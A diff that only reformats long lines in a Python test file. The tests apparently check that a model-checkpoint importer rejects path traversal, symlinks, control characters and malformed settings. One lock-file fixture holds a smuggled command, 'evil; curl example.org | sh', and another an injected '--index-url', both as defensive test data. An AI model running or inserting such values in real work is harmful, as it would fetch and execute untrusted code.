@@ -67,7 +67,9 @@ def test_control_characters_are_escaped() -> None:
     assert shortened("größe 今天 👩\u200d🚀") == "größe 今天 👩\u200d🚀"
     assert len(shortened("x" * 5_000_000)) <= 120 and shortened("x" * 120) == "x" * 120
     long = printable("\n".join(["y" * 5000] * 1000))
-    assert len(long.split("\n")) <= MOST_LINES and max(map(len, long.split("\n"))) < LONGEST_LINE + 60
+    assert (
+        len(long.split("\n")) <= MOST_LINES and max(map(len, long.split("\n"))) < LONGEST_LINE + 60
+    )
     assert escaped("\ud800") == r"\ud800"
 
 
@@ -83,17 +85,32 @@ def test_names_of_tensors(name: str, tmp_path: Path, capsys: pytest.CaptureFixtu
     path = with_name(tmp_path / "theirs", name)
     capsys.readouterr()
     code, told = command(capsys, "import", str(path), "--out", str(tmp_path / "out"))
-    assert code == 2 and "unexpected" in told and "\x1b" not in told and "\x07" not in told and len(told) < 5000
-    code, told = command(capsys, "import", str(path), "--out", str(tmp_path / "out"), "--allow", ".")
+    assert (
+        code == 2
+        and "unexpected" in told
+        and "\x1b" not in told
+        and "\x07" not in told
+        and len(told) < 5000
+    )
+    code, told = command(
+        capsys, "import", str(path), "--out", str(tmp_path / "out"), "--allow", "."
+    )
     assert code == 0 and "allowed" in told and "\x1b" not in told and len(told) < 5000
 
 
 @pytest.mark.parametrize(
     "settings",
-    [{"model_type": ESCAPE}, {"model_type": ["bart"]}, {"model_type": "x", "architectures": [1, ESCAPE]},
-     {"model_type": "x", "architectures": {"a": 1}}, {"activation_function": ESCAPE}],
-)  # fmt: skip
-def test_values_of_settings(settings: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    [
+        {"model_type": ESCAPE},
+        {"model_type": ["bart"]},
+        {"model_type": "x", "architectures": [1, ESCAPE]},
+        {"model_type": "x", "architectures": {"a": 1}},
+        {"activation_function": ESCAPE},
+    ],
+)
+def test_values_of_settings(
+    settings: dict[str, Any], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
     save_bart(tmp_path / "theirs")
     config = json.loads((tmp_path / "theirs" / "config.json").read_text())
     (tmp_path / "theirs" / "config.json").write_text(json.dumps({**config, **settings}))
@@ -103,7 +120,10 @@ def test_values_of_settings(settings: dict[str, Any], tmp_path: Path, capsys: py
 
 
 LOCKS = {
-    "shell": ([["x", "evil; curl example.org | sh", "1.0"]], "which is no name of a package: do not trust"),
+    "shell": (
+        [["x", "evil; curl example.org | sh", "1.0"]],
+        "which is no name of a package: do not trust",
+    ),
     "version": ([["x", "evil", "1.0 --index-url http://x"]], "which is no name of a package"),
     "name": ([["x", "ofa-modality-smell", "1.2.0"]], "pip install ofa-modality-smell==1.2.0"),
 }
@@ -129,7 +149,10 @@ STATES: dict[str, tuple[dict[str, Any], str]] = {
     "newer": ({"format": 99}, "is of form 99, written by a newer version of ofacore"),
     "no assembly": ({"assembly": None}, "holds no description of its model"),
     "no configuration": ({"assembly": {"vocabulary": []}}, "assembly.config is missing"),
-    "no vocabulary": ({"assembly": {"config": {}, "vocabulary": {"a": 1}}}, "assembly.vocabulary is an object of a"),
+    "no vocabulary": (
+        {"assembly": {"config": {}, "vocabulary": {"a": 1}}},
+        "assembly.vocabulary is an object of a",
+    ),
     "newer settings": ({"assembly": {"config": {"holograms": 3}, "vocabulary": []}}, "holograms"),
     "artifacts": ({"artifacts": [1]}, "artifacts is a list of 1"),
     "plugins": ({"plugins": "x"}, 'plugins is "x"'),
@@ -145,7 +168,9 @@ def test_a_state_that_is_none(name: str, run: Path, tmp_path: Path) -> None:
     assert words in str(caught.value) and str(path) in str(caught.value)
 
 
-@pytest.mark.parametrize("file", ["config.json", "generation_config.json", "vocab.json", "tokenizer.json"])
+@pytest.mark.parametrize(
+    "file", ["config.json", "generation_config.json", "vocab.json", "tokenizer.json"]
+)
 def test_a_foreign_file_that_is_nested_without_end(file: str, tmp_path: Path) -> None:
     save_bart(tmp_path / "theirs")
     if file == "tokenizer.json":
@@ -182,13 +207,17 @@ def test_a_file_that_is_no_json(tmp_path: Path) -> None:
         read_json(tmp_path)
 
 
-@pytest.mark.parametrize("part", ["../other/model.safetensors", "/etc/passwd", "..", "", "a/b", "c:\\x", 7, None])
+@pytest.mark.parametrize(
+    "part", ["../other/model.safetensors", "/etc/passwd", "..", "", "a/b", "c:\\x", 7, None]
+)
 def test_an_index_names_files_beside_it(part: Any, tmp_path: Path) -> None:
     save_bart(tmp_path / "theirs")
     (tmp_path / "theirs" / "model.safetensors").rename(tmp_path / "elsewhere.safetensors")
     index = {"weight_map": {"model.shared.weight": part}}
     (tmp_path / "theirs" / "model.safetensors.index.json").write_text(json.dumps(index))
-    with pytest.raises(CheckpointError, match="index.json: weight_map names .*expected names of files beside it"):
+    with pytest.raises(
+        CheckpointError, match="index.json: weight_map names .*expected names of files beside it"
+    ):
         import_run(tmp_path / "theirs", tmp_path / "out")
 
 
@@ -198,10 +227,18 @@ def test_names_inside_of_a_folder() -> None:
     assert not any(map(is_plain_path, ("../a", "a/../../b", "/a", "C:/a", "C:a", "")))
 
 
-def test_a_pointer_names_a_folder_beside_it(run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+def test_a_pointer_names_a_folder_beside_it(
+    run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
     path, other = copied(run, tmp_path / "run"), copied(run, tmp_path / "other")
     latest = path / "checkpoints" / "latest"
-    for folder in (f"../../other/checkpoints/{find_latest(other).name}", str(find_latest(other)), "..", 3, None):
+    for folder in (
+        f"../../other/checkpoints/{find_latest(other).name}",
+        str(find_latest(other)),
+        "..",
+        3,
+        None,
+    ):
         latest.write_text(json.dumps({"folder": folder}))
         with pytest.raises(CheckpointError, match="latest: not a pointer to a checkpoint: names"):
             Generalist.from_pretrained(path)
@@ -219,13 +256,21 @@ def test_nothing_is_pruned_through_a_link(run: Path, tmp_path: Path) -> None:
     own = find_latest(path)
     assert own is not None
     for number in (1, 2, 3):
-        subprocess.run(["cp", "-r", str(own), str(own.with_name(f"step-00000{number}"))], check=True)
+        subprocess.run(
+            ["cp", "-r", str(own), str(own.with_name(f"step-00000{number}"))], check=True
+        )
     own.rename(own.with_name("step-000004"))
     (own.parent / "step-000000").symlink_to(find_latest(other), target_is_directory=True)
     (own.parent / "step-000005").symlink_to(tmp_path / "nothing", target_is_directory=True)
     write_pointer(path, "latest", own.with_name("step-000004"), step=4)
-    assert {place.name for place in prune(path, keep_last=1)} == {"step-000001", "step-000002", "step-000003"}
-    assert find_latest(other) is not None and Generalist.from_pretrained(other).tasks == ("imported",)
+    assert {place.name for place in prune(path, keep_last=1)} == {
+        "step-000001",
+        "step-000002",
+        "step-000003",
+    }
+    assert find_latest(other) is not None and Generalist.from_pretrained(other).tasks == (
+        "imported",
+    )
     assert (own.parent / "step-000000").is_symlink()
 
 
@@ -240,12 +285,20 @@ def broken_weights(run: Path, to: Path, change: Any) -> Path:
     return to
 
 
-def test_weights_that_are_no_numbers_are_told(run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
-    path = broken_weights(run, tmp_path / "nan", lambda name, part: part * float("nan") if "ffn" in name else part)
+def test_weights_that_are_no_numbers_are_told(
+    run: Path, tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    path = broken_weights(
+        run, tmp_path / "nan", lambda name, part: part * float("nan") if "ffn" in name else part
+    )
     Generalist.from_pretrained(path)
-    assert "hold NaN or infinity, so its answers mean nothing" in caplog.text and "ffn" in caplog.text
+    assert (
+        "hold NaN or infinity, so its answers mean nothing" in caplog.text and "ffn" in caplog.text
+    )
     path = broken_weights(run, tmp_path / "int", lambda name, part: part.to(torch.int8))
-    with pytest.raises(CheckpointError, match="tensors hold whole numbers, as quantised weights do"):
+    with pytest.raises(
+        CheckpointError, match="tensors hold whole numbers, as quantised weights do"
+    ):
         Generalist.from_pretrained(path)
 
 
@@ -253,9 +306,14 @@ def test_settings_of_a_run_ask_for_no_more_than_its_weights(run: Path, tmp_path:
     (place,) = run.glob("checkpoints/step-*/state.json")
     assembly = json.loads(place.read_text())["assembly"]
     for key, value in (("ffn", 10**9), ("encoder_layers", 10**8), ("max_positions", 10**10)):
-        changed = {**assembly, "config": {**assembly["config"], "model": {**assembly["config"]["model"], key: value}}}
+        changed = {
+            **assembly,
+            "config": {**assembly["config"], "model": {**assembly["config"]["model"], key: value}},
+        }
         path = changed_state(run, tmp_path / key, assembly=changed)
-        with pytest.raises(CheckpointError, match="settings do not fit its weights: they ask for far more than"):
+        with pytest.raises(
+            CheckpointError, match="settings do not fit its weights: they ask for far more than"
+        ):
             Generalist.from_pretrained(path)
 
 
@@ -281,4 +339,9 @@ def test_a_terminal_gets_no_control_characters() -> None:
     except OSError:
         pass  # the end of a terminal
     os.close(first)
-    assert done.returncode == 0 and told.count(b"\\x1b") == 3 and b"\x1b" not in told and "\x9b".encode() not in told
+    assert (
+        done.returncode == 0
+        and told.count(b"\\x1b") == 3
+        and b"\x1b" not in told
+        and "\x9b".encode() not in told
+    )
